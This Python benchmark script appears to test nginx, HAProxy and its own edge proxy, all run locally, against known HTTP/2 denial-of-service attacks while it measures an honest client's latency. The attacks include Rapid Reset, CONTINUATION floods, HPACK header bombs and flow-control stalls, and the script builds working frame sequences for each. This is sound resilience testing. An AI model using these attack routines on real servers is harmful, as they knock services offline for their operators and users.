#!/usr/bin/env python3
"""What the known attacks on HTTP/2 cost nginx, HAProxy and zlh-edge, and what an honest client notices of them.

For each attack and peer, on a fresh process: four connections send as fast as they can for some seconds, and connect
again whenever they are closed; beside them an honest client asks for 1 KiB every few milliseconds on a connection of
its own. The attacker has a session and runs at a lower priority, so that what the honest client waits for is the peer. No
source limits ours by default, as if every connection came from elsewhere; `--limits` measures one source under them.

frames/s   what the attacker's kernel took, the bytes included that a closed connection never read
closed/s   connections that the peer ended
lost       honest requests that ended with their connection or waited for 20 s
"""

import bisect
import dataclasses
import itertools
import json
import multiprocessing
import os
import pathlib
import select
import ssl
import statistics
import time

import http2_client as http2
import side_by_side as bench
from http2_client import frame, request_fields, setting

CONNECTIONS, STREAMS, LARGEST_FRAME = 4, 100, 16_384
ATTACKER = "127.0.0.9"
REFERENCE_TO_NEWEST = b"\xbe"
CANCEL = (8).to_bytes(4, "big")


@dataclasses.dataclass
class Attack:
    """What one connection sends: `opening` and then `frames`, again and again if `repeats`; a connection that has sent
    all is ended and made anew, one with nothing to send is held."""

    opening: bytes
    frames: list[bytes]
    repeats: bool = True
    reads: bool = True

    def __post_init__(self):
        # Enough for many records at once.
        if self.repeats and self.frames:
            self.frames *= max(1, 65_536 // sum(map(len, self.frames)))
        self.data = b"".join(self.frames)
        self.ends = list(itertools.accumulate(map(len, self.frames)))

    def count(self, sent: int) -> int:
        """The frames in so many bytes of `data`, repeated."""
        whole, rest = divmod(sent, len(self.data)) if self.data else (0, 0)
        return whole * len(self.ends) + bisect.bisect_right(self.ends, rest)


def streams(fields: tuple[bytes, bytes], count: int, flags: int = http2.END_HEADERS | http2.END_STREAM) -> list[bytes]:
    return [frame(http2.HEADERS, flags, 1 + 2 * place, fields[1 if place else 0]) for place in range(count)]


def rapid_reset(get) -> Attack:
    """CVE-2023-44487: each request is taken back at once."""
    resets = [frame(http2.RST_STREAM, 0, 1 + 2 * place, CANCEL) for place in range(20_000)]
    pairs = zip(streams(get("/1k"), len(resets)), resets)
    return Attack(frame(http2.SETTINGS, 0, 0), [part for pair in pairs for part in pair], repeats=False)


def ping(get) -> Attack:
    return Attack(frame(http2.SETTINGS, 0, 0), [frame(http2.PING, 0, 0, bytes(8))])


def ping_unread(get) -> Attack:
    """CVE-2019-9512: and never reads an answer."""
    return dataclasses.replace(ping(get), reads=False)


def settings(get) -> Attack:
    """CVE-2019-9515."""
    return Attack(b"", [frame(http2.SETTINGS, 0, 0, setting(http2.INITIAL_WINDOW_SIZE, 65_535))])


def continuation(get) -> Attack:
    """CVE-2024-27316: a head that never ends, in small pieces."""
    opening = frame(http2.SETTINGS, 0, 0) + frame(http2.HEADERS, http2.END_STREAM, 1, get("/1k")[0])
    return Attack(opening, [frame(http2.CONTINUATION, 0, 1, b"\x10" + http2.text("x-filler") + http2.text("y" * 50))])


def bomb(get, name: str, value: str) -> Attack:
    entry = b"\x40" + http2.text(name) + http2.text(value)
    first, later = get("/1k")
    heads = [fields + REFERENCE_TO_NEWEST * (LARGEST_FRAME - len(fields)) for fields in (first + entry, later)]
    # The later ones' own indexes are off by one now, which makes them no lighter.
    return Attack(frame(http2.SETTINGS, 0, 0), streams((heads[0], heads[1]), 200), repeats=False)


def header_bomb(get) -> Attack:
    """CVE-2016-6581: 16 KiB of references to a field of 3 KB."""
    return bomb(get, "x-bomb", "y" * 3000)


def cookie_bomb(get) -> Attack:
    """CVE-2026-49975: 16 KiB of references to one crumb of a cookie."""
    return bomb(get, "cookie", "a=b")


def empty_data(get) -> Attack:
    """CVE-2019-9518."""
    post = get("/post", http2.METHOD_POST)[0]
    opening = frame(http2.SETTINGS, 0, 0) + frame(http2.HEADERS, http2.END_HEADERS, 1, post)
    return Attack(opening, [frame(http2.DATA, 0, 1)])


def window_zero(get) -> Attack:
    """CVE-2019-9517: asks for 10 MiB a hundred times, and lets nothing come."""
    none = frame(http2.SETTINGS, 0, 0, setting(http2.INITIAL_WINDOW_SIZE, 0))
    return Attack(none + b"".join(streams(get("/10m"), STREAMS)), [])


def window_drip(get) -> Attack:
    """CVE-2019-9511: the same, a byte at a time."""
    drops = [frame(http2.WINDOW_UPDATE, 0, 1 + 2 * place, (1).to_bytes(4, "big")) for place in range(STREAMS)]
    return dataclasses.replace(window_zero(get), frames=drops)


ATTACKS = {
    found.__name__: found for found in (
        rapid_reset, ping, ping_unread, settings, continuation, header_bomb, cookie_bomb, empty_data, window_zero,
        window_drip)}


class Offender:
    """One of the attacker's connections, without blocking once it stands."""

    def __init__(self, attack: Attack, port: int, counts: dict[str, int]):
        self.attack, self.port, self.counts = attack, port, counts
        self.tls: ssl.SSLSocket | None = None

    def fileno(self) -> int:
        return self.tls.fileno()

    def connect(self) -> None:
        try:
            self.tls = http2.connect_tls(self.port, 2, ATTACKER)
            self.tls.sendall(http2.PREFACE + self.attack.opening)
            self.tls.setblocking(False)
            self.sent = 0
            self.counts["connected"] += 1
        except OSError:
            self.counts["refused"] += 1
            self.close()
            time.sleep(0.001)

    def close(self) -> None:
        if self.tls:
            self.tls.close()
            self.tls = None

    def wants_to_send(self) -> bool:
        return bool(self.attack.data)

    def step(self) -> bool:
        """Sends and reads what goes; whether anything did."""
        if not self.tls:
            self.connect()
            return True
        try:
            return self.send() | (self.attack.reads and self.read())
        except (OSError, EOFError):
            self.counts["closed"] += 1
            self.end()
            return True

    def end(self) -> None:
        self.counts["frames"] += self.attack.count(self.sent)
        self.close()

    def send(self) -> bool:
        data = self.attack.data
        if not data:
            return False
        at = self.sent % len(data)
        try:
            self.sent += self.tls.send(memoryview(data)[at:at + 65_536])
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            return False
        if not self.attack.repeats and self.sent >= len(data):
            self.end()
        return True

    def read(self) -> bool:
        if not self.tls:
            return False
        try:
            if not self.tls.recv(1 << 18):
                raise EOFError
            return True
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return False


def assail(attack: Attack, port: int, seconds: float, result) -> None:
    """The attacker's process."""
    os.nice(10)
    counts = dict.fromkeys(("frames", "connected", "closed", "refused"), 0)
    offenders = [Offender(attack, port, counts) for _ in range(CONNECTIONS)]
    begin = time.monotonic()
    while time.monotonic() < begin + seconds:
        if not any([offender.step() for offender in offenders]):
            there = [offender for offender in offenders if offender.tls]
            select.select(there, [one for one in there if one.wants_to_send()], [], 0.05)
    for offender in offenders:
        if offender.tls:
            offender.end()
    result.send({**counts, "seconds": time.monotonic() - begin})


def resident_kib(pid: int) -> int:
    return int(pathlib.Path(f"/proc/{pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGESIZE") // 1024


COLUMNS = {  # what a row tells: heading, digits
    "frames_s": ("frames/s", 0), "closed_s": ("closed/s", 0), "busy": ("CPU %", 0),
    "cost": ("ms/1000 fr.", 3), "rss": ("RSS + KiB", 0), "p50": ("p50 ms", 2), "p99": ("p99 ms", 2),
    "asked": ("honest/s", 0), "lost": ("lost", 0),
}


def connect_honest(peer: bench.Peer, fields: tuple[bytes, bytes]) -> http2.Connection:
    honest = http2.Connection(peer, fields, 1024)
    honest.tls.settimeout(20)
    return honest


def measure(peer: bench.Peer, headers: dict[str, str], name: str | None, seconds: float) -> dict[str, float]:
    """One attack on one peer; without a name only the honest client."""
    host = f"{bench.HOST}:{peer.port}"
    fields = request_fields(host, "/1k", headers)
    honest = connect_honest(peer, fields)
    for _ in range(50):
        honest.ask(1)
        honest.await_answers()
    before, cpu, begin = resident_kib(peer.process.pid), bench.cpu_us(peer.process.pid), time.monotonic()
    result, sender = multiprocessing.Pipe(duplex=False)
    attacker = None
    if name:
        attack = ATTACKS[name](lambda path, method=http2.METHOD_GET: request_fields(host, path, headers, method))
        attacker = multiprocessing.Process(target=assail, args=(attack, peer.port, seconds, sender))
        attacker.start()
    waits, most, lost = [], before, 0
    while time.monotonic() < begin + seconds:
        asked = time.monotonic()
        try:
            honest = honest or connect_honest(peer, fields)
            honest.ask(1)
            honest.await_answers()
        except (OSError, SystemExit):
            lost += 1
            if honest:
                honest.tls.close()
            honest = None
        waits.append(1000 * (time.monotonic() - asked))
        most = max(most, resident_kib(peer.process.pid))
        time.sleep(0.005)
    counts = {"frames": 0, "closed": 0, "seconds": 1}
    if attacker:
        counts = result.recv()
        attacker.join()
    used, elapsed = bench.cpu_us(peer.process.pid) - cpu, time.monotonic() - begin
    if peer.process.poll() is not None:
        raise SystemExit(f"{peer.name} died of {name}")
    if honest:
        honest.tls.close()
    return {
        "frames_s": counts["frames"] / counts["seconds"], "closed_s": counts["closed"] / counts["seconds"],
        "busy": used / 1e4 / elapsed, "cost": used / counts["frames"] if counts["frames"] else float("nan"),
        "rss": most - before, "p50": statistics.median(waits), "p99": sorted(waits)[len(waits) * 99 // 100],
        "asked": len(waits) / elapsed, "lost": lost,
    }


def start_backend(folder: pathlib.Path) -> int:
    """As for the others, and `/post` waits for the body's end before it answers."""
    port, inner = bench.free_port(), bench.free_port()
    files = folder / "files"
    files.mkdir()
    (files / "1k").write_bytes(b"x" * 1024)
    (files / "10m").write_bytes(b"x" * 10 * 1024 * 1024)
    bench.Peer("backend", folder, bench.nginx_command(folder, "backend", f"""
sendfile on; tcp_nopush on; open_file_cache max=100; client_max_body_size 0;
server {{
    listen 127.0.0.1:{port} backlog=4096; root {files};
    location /post {{ proxy_pass http://127.0.0.1:{inner}; }}
}}
server {{ listen 127.0.0.1:{inner}; return 204; }}"""), port, {})
    return port


def show(name: str, results: dict[str, list[dict[str, float]]]) -> None:
    print(f"\n{name}\n{'':10}" + "".join(f"{heading:>13}" for heading, _ in COLUMNS.values()))
    for peer, rounds in results.items():
        print(f"{peer:10}" + "".join(
            f"{statistics.median(one[column] for one in rounds):13.{digits}f}"
            for column, (_, digits) in COLUMNS.items()), flush=True)


def main() -> None:
    parser = bench.arguments(__doc__)
    parser.set_defaults(rounds=1, seconds=3)
    parser.add_argument("--attack", choices=ATTACKS, action="append", help="only this; may be repeated")
    parser.add_argument("--limits", action="store_true", help="let ours limit the attacker's source")
    options = parser.parse_args()
    if options.limits:
        start_edge = bench.start_edge
        bench.start_edge = lambda folder, backend, binary: start_edge(folder, backend, binary, exempt="127.0.0.1/32")
    report: dict[str, dict[str, list[dict[str, float]]]] = {}
    for name in [None, *(options.attack or ATTACKS)]:
        results = report[name or "no attack"] = {}
        for _ in range(options.rounds):
            with bench.running(options, backend=start_backend) as peers:
                for peer in peers:
                    outcome = measure(peer, peers[-1].headers, name, options.seconds)
                    results.setdefault(peer.name, []).append(outcome)
        show(name or "no attack", results)
    if options.json:
        options.json.write_text(json.dumps(report, indent=2) + "\n")


if __name__ == "__main__":
    main()
